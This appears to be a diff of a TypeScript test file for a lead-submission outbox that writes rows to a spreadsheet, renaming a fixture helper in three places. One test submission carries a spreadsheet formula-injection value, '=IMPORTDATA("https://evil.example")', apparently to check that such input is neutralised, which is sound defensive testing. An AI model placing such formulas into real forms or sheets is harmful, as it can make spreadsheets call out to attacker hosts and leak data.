@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { createContext, runInContext } from 'node:vm';
 import { afterEach, expect, test } from 'vitest';
 import { sampleEditions } from '../../../tests/support/firms.ts';
-import { allLeads, said, testConfig, testLog, testStore } from '../store/testing/fixtures.ts';
+import { allLeads, makeSubmission, testConfig, testLog, testStore } from '../store/testing/fixtures.ts';
 import { startOutbox } from './outbox.ts';
 import { createClock, eventually, stopAll, stopLater, testHook } from './testing/fixtures.ts';
 
@@ -70,7 +70,7 @@ const startSheet = async (status: number) => {
 test.each([200, 302])('loses a row after a withdrawal, answering %i', async (status) => {
   const { rows, doPost, events, store, clock } = await startSheet(status);
   const submitted = await store.submit(
-    said({ name: '=IMPORTDATA("https://evil.example")', message: '\u00a0=வணக்கம்', receivedAt: clock.now() }),
+    makeSubmission({ name: '=IMPORTDATA("https://evil.example")', message: '\u00a0=வணக்கம்', receivedAt: clock.now() }),
   );
   const receipt = submitted.result === 'key-reused' ? null : submitted.receipt;
   await eventually(() => expect(rows).toHaveLength(2));
@@ -109,7 +109,7 @@ test.each([200, 302])('loses a row after a withdrawal, answering %i', async (sta
 
 test("marks a held enquiry's row until its release", async () => {
   const { rows, store, clock } = await startSheet(200);
-  await store.submit(said({ state: 'held', reasons: ['flood'], receivedAt: clock.now() }));
+  await store.submit(makeSubmission({ state: 'held', reasons: ['flood'], receivedAt: clock.now() }));
   clock.pass(40_000);
   await eventually(() => expect(rows[1]?.[3]).toBe('HELD AS DOUBTFUL GST Registration'));
   const [lead] = await allLeads(store);
